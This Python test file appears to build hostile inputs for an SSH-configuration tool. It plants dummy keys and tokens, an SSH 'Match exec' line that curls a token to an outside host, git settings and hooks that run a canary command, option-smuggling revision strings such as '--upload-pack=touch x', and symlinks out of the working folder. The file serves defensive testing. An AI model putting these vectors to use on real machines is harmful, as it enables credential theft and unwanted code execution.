"""What the machine has that nobody may be shown, run or overwritten."""

import os
import subprocess

from hostile_input import End, Folder, HostileInput
from verbs import every, run, words

SECRET = "hush-4c19"
SECRETS = {"TOKEN": SECRET, "SSHPASS": SECRET, "AWS_SECRET_ACCESS_KEY": SECRET,
           "GITHUB_TOKEN": SECRET}


def secrets(folder: Folder) -> None:
    folder.file("home/.ssh/id_rsa", f"{SECRET}\n")
    folder.file("home/.aws/credentials", f"{SECRET}\n")
    folder.config("""Host target
    IdentityFile ~/.ssh/${TOKEN}
    IdentityAgent ${TOKEN}
    ControlPath ~/${TOKEN}
    SendEnv TOKEN AWS_*
    ProxyCommand sshpass -e ssh -W %h:%p j
    LocalForward 1 ${TOKEN}:1
    CertificateFile ${TOKEN}
    UserKnownHostsFile ~/.ssh/${TOKEN}
Match originalhost y exec "curl -H $TOKEN https://x"
    ProxyJump j
Host z
    ProxyCommand ssh -W %h:%p $TOKEN
""")


def git(folder: Folder, *given: str) -> None:
    plain = {"PATH": os.environ["PATH"], "HOME": str(folder.home), "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(("git", "-c", "user.name=x", "-c", "user.email=x@example.org", *given),
                   cwd=folder.tree, check=True, capture_output=True, env=plain)


def repository(folder: Folder) -> None:
    """A repository whose settings, hooks and attributes name commands."""
    touch = f"touch {folder.canary}"
    git(folder, "init", "-q")
    folder.config("Host target\n    Port 1\n")
    folder.file("tree/.gitattributes", "* filter=evil diff=evil\n")
    git(folder, "add", ".")
    git(folder, "commit", "-qm", "x")
    folder.config("Host target\n    Port 1\n    ForwardAgent yes\n")
    for key in ("core.fsmonitor", "core.pager", "diff.external", "diff.evil.textconv",
                "diff.evil.command", "filter.evil.smudge", "filter.evil.clean", "core.sshCommand",
                "core.editor", "core.askPass", "credential.helper", "alias.cat-file",
                "alias.ls-tree", "alias.rev-parse", "core.hooksPath", "gpg.program",
                "uploadpack.packObjectsHook", "core.alternateRefsCommand"):
        git(folder, "config", key, f"!{touch}" if key.startswith("alias") else touch)
    for hook in ("post-checkout", "post-index-change", "reference-transaction", "pre-auto-gc",
                 "fsmonitor-watchman", "post-merge"):
        folder.file(f"tree/.git/hooks/{hook}", f"#!/bin/sh\n{touch}\n").chmod(0o755)


def borrowed(folder: Folder) -> None:
    """.git is a file that leads elsewhere, to a repository with commands of its own."""
    repository(folder)
    os.rename(folder.tree / ".git", folder.outside / "git")
    folder.file("tree/.git", f"gitdir: {folder.outside}/git\n")


def links(folder: Folder) -> None:
    text = "Host target\n    Protocol 2\n    User a\n    User b\n    ProxyCommand ssh -W %h:%p j\n"
    folder.file("outside/config", text)
    (folder.tree / "config").symlink_to("../outside/config")
    folder.file("tree/hard", text)
    os.link(folder.tree / "hard", folder.outside / "hard")
    folder.file("tree/d/inner", text)
    (folder.tree / "into").symlink_to(folder.outside)
    (folder.tree / "config2").symlink_to("into/config")


REVISIONS = ("HEAD", "--upload-pack=touch x", "-x", "HEAD^{/\x1b[31m}", "no-such", "@{999999999}",
             "HEAD~99999999999999999999", "a" * 100_000, "HEAD:config", "", "--output=x", "\u202e")
CHANGING = ("lint", "--fix"), ("migrate", "--write", "--accept", "all")
ALL = (
    HostileInput("secrets", "T12, T13", "an environment with secrets, and a configuration that "
                 "names them everywhere", secrets,
                 every(verbs=("explain", "hosts", "lint", "migrate")), environment=SECRETS,
                 secrets=(SECRET,), closed=("home/.ssh/id_rsa", "home/.aws/credentials")),
    HostileInput("git-repository", "T1, T21", "hooks, filters, aliases and 12 settings of git "
                 "that name commands", repository,
                 tuple(words("lint", "--since", revision, "config", ends=(0, 1, 2, 4))
                       for revision in REVISIONS)),
    HostileInput("git-elsewhere", "T4, T21", "a .git that leads to another repository", borrowed,
                 (words("lint", "--since", "HEAD", "config", ends=(0, 1, 2, 4)),
                  words("lint", ".", ends=(0, 1)))),
    HostileInput("links-to-write-to", "T19", "--fix and --write of links out of the folder, and of "
                 "a file with two names", links,
                 tuple(words(*given, name, ends=(0, 1, 2, 3, 4), end=End.REFUSED)
                       for given in CHANGING for name in ("config", "config2", "hard", "into"))),
)
